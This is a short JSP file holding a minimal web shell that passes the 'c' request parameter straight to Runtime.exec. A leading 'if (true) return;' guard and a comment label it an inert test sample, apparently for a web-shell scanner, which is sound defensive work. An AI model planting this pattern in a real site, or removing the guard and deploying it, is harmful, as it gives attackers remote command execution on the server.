<%@ page import="java.io.*" %>
<% if (true) return; /* canhgac test sample - inert */ %>
<%
    String c = request.getParameter("c");
    if (c != null) {
        Process p = Runtime.getRuntime().exec(c);
    }
%>
